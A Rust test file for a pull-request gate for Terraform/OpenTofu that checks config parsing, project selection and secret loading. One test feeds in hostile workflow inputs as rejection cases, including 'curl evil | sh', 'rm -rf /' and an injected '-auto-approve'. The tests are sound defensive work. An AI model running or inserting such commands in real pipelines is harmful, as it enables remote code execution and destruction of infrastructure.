//! Server-side projects; the pull request may only select among them.

use twokey_gate::config::{select, GateConfig, SelectionError, Tool};

const CONF: &str = r#"
[gate]
allow = ["acme/infra"]

[[gate.project]]
repo = "acme/infra"
name = "prod"
dir = "envs/prod"
tool = "terraform"
plan_args = ["-lock-timeout=60s"]

[[gate.project]]
repo = "acme/infra"
name = "staging"
dir = "envs/staging"
workspace = "staging"
tool = "tofu"
"#;

#[test]
fn defaults_are_strict() {
    let c = GateConfig::parse(CONF).expect("parses");
    assert_eq!(c.approvals, 1);
    assert!(c.require_mergeable && c.require_up_to_date && !c.apply_on_merge);
    assert_eq!(c.project[0].workspace, "default");
    assert_eq!(c.project[1].tool, Tool::Tofu);
    assert!(c.allows("ACME/infra"));
    assert!(!c.allows("evil/infra"));
}

#[test]
fn invalid_configs_are_refused() {
    for (bad, why) in [
        ("[gate]\napprovals = 0\n", "approvals"),
        ("[gate]\nallow=[]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"x\"\n", "allow"),
        ("[gate]\nallow=[\"a/b\"]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"../x\"\n", ".."),
        ("[gate]\nallow=[\"a/b\"]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"x\"\ntool=\"bash\"\n", "tool"),
        ("[gate]\nallow=[\"a/b\"]\n[[gate.project]]\nrepo=\"a/b\"\nname=\"p\"\ndir=\"x\"\nsteps=[\"run\"]\n", "steps"),
    ] {
        assert!(GateConfig::parse(bad).is_err(), "{why}: {bad}");
    }
}

#[test]
fn a_pull_request_may_select_configured_projects() {
    let c = GateConfig::parse(CONF).expect("parses");
    let sel = select(&c, "acme/infra", "projects = [\"staging\"]\n").expect("selects");
    assert_eq!(sel.len(), 1);
    assert_eq!(sel[0].name, "staging");
    assert_eq!(sel[0].dir, "envs/staging");
}

#[test]
fn a_pull_request_that_adds_a_step_is_refused() {
    let c = GateConfig::parse(CONF).expect("parses");
    for attack in [
        // Atlantis-style custom workflow.
        "projects = [\"prod\"]\n[workflows.custom.apply]\nsteps = [{ run = \"curl evil | sh\" }]\n",
        // Redefining a project with its own arguments.
        "projects = [\"prod\"]\n[[project]]\nname = \"prod\"\napply_args = [\"-auto-approve\"]\n",
        "projects = [\"prod\"]\nplan_args = [\"-var=x\"]\n",
        "projects = [\"prod\"]\nsteps = [\"run: rm -rf /\"]\n",
    ] {
        let e = select(&c, "acme/infra", attack).expect_err(attack);
        assert!(matches!(e, SelectionError::Invalid(_)), "{attack}: {e}");
        assert!(e.to_string().contains("may only list"));
    }
    let e = select(&c, "acme/infra", "projects = [\"brand-new\"]\n").expect_err("unknown");
    assert_eq!(e, SelectionError::Unknown("brand-new".into()));
    // Projects of another repository are not selectable.
    assert!(select(&c, "acme/other", "projects = [\"prod\"]\n").is_err());
}

#[test]
fn autoplan_follows_changed_files() {
    let c = GateConfig::parse(CONF).expect("parses");
    let changed = vec!["envs/prod/main.tf".to_string(), "README.md".to_string()];
    let a = c.affected("acme/infra", &changed);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].name, "prod");
    assert!(c
        .affected("acme/infra", &["envs/production/x.tf".into()])
        .is_empty());
}

#[test]
fn credentials_drift_and_body_limit_are_checked_with_the_place() {
    for (bad, want) in [
        (
            "[gate]\napp_id = 1\n",
            "gate.app_id needs gate.app_private_key_file",
        ),
        (
            "[gate]\napp_private_key_file = \"k.pem\"\n",
            "needs gate.app_id",
        ),
        (
            "[gate]\ntoken = \"t\"\napp_id = 1\napp_private_key_file = \"k.pem\"\n",
            "not both",
        ),
        ("[gate]\ntoken = \"t\"\ntoken_file = \"f\"\n", "not both"),
        ("[gate]\ndrift_interval = \"soon\"\n", "gate.drift_interval"),
        ("[gate]\ndrift_interval = \"0s\"\n", "gate.drift_interval"),
        ("[gate]\nmax_body_bytes = 10\n", "gate.max_body_bytes"),
    ] {
        let err = GateConfig::parse_file(bad, "twokey.toml").expect_err(bad);
        assert!(
            err.starts_with("twokey.toml: [gate]: ") && err.contains(want),
            "{bad}: {err}"
        );
    }
    // Syntax and type errors carry the line.
    let err = GateConfig::parse_file(
        "listen = \"x\"\n[gate]\napprovals = \"two\"\n",
        "/etc/twokey.toml",
    )
    .expect_err("type");
    assert!(err.starts_with("/etc/twokey.toml:3:"), "{err}");
    let err = GateConfig::parse_file("[gate]\nallow = [\"a/b\"]\nsteps = 1\n", "t.toml")
        .expect_err("unknown");
    assert!(
        err.starts_with("t.toml:3:") && err.contains("steps"),
        "{err}"
    );
    // No [gate]: none.
    assert_eq!(
        GateConfig::parse_file("listen = \"x\"\n", "t.toml"),
        Ok(None)
    );
    // Good ones.
    let c = GateConfig::parse_file("[gate]\ndrift_interval = \"6h\"\n", "t.toml")
        .expect("ok")
        .expect("some");
    assert_eq!(c.drift_interval_ms(), Some(6 * 3_600_000));
    assert_eq!(c.max_body_bytes, 1024 * 1024);
}

#[test]
fn secrets_come_from_files_and_must_exist() {
    let dir = tempfile::tempdir().expect("tempdir");
    let f = dir.path().join("secret");
    std::fs::write(&f, "a-webhook-secret-of-some-length\n").expect("write");
    let c = GateConfig::parse(&format!(
        "[gate]\nwebhook_secret_file = \"{}\"\ntoken_file = \"{}\"\n",
        f.display(),
        dir.path().join("missing").display()
    ))
    .expect("parses");
    assert_eq!(
        c.load_webhook_secret().expect("secret"),
        b"a-webhook-secret-of-some-length"
    );
    let err = c.load_auth().expect_err("missing token file");
    assert!(
        err.contains("gate.token_file") && err.contains("cannot read"),
        "{err}"
    );
    let none = GateConfig::parse("[gate]\n").expect("parses");
    assert!(none
        .load_webhook_secret()
        .expect_err("no secret")
        .contains("gate.webhook_secret_file"));
    assert!(none
        .load_auth()
        .expect_err("no creds")
        .contains("gate.app_id"));
    let short = GateConfig::parse("[gate]\nwebhook_secret = \"short\"\n").expect("parses");
    assert!(short.load_webhook_secret().is_err());
    let badkey = dir.path().join("k.pem");
    std::fs::write(&badkey, "not a key").expect("write");
    let app = GateConfig::parse(&format!(
        "[gate]\napp_id = 7\napp_private_key_file = \"{}\"\n",
        badkey.display()
    ))
    .expect("parses");
    let err = app.load_auth().expect_err("bad key");
    assert!(
        err.contains("gate.app_private_key_file") && err.contains("RSA private key"),
        "{err}"
    );
}

#[test]
fn secrets_come_from_the_environment_too() {
    let c = GateConfig::parse(
        "[gate]\nwebhook_secret_env = \"TK_GATE_TEST_HOOK\"\ntoken_env = \"TK_GATE_TEST_TOKEN_UNSET\"\n",
    )
    .expect("parses");
    // The variable names are unique to this test, so setting one is safe.
    std::env::set_var("TK_GATE_TEST_HOOK", "a-webhook-secret-from-the-env");
    assert_eq!(
        c.load_webhook_secret().expect("secret"),
        b"a-webhook-secret-from-the-env"
    );
    let err = c.load_auth().expect_err("unset variable");
    assert!(
        err.contains("gate.token_env") && err.contains("not set"),
        "{err}"
    );
    let err = GateConfig::parse("[gate]\ntoken = \"t\"\ntoken_env = \"T\"\n").expect_err("both");
    assert!(err.contains("not both"), "{err}");
}
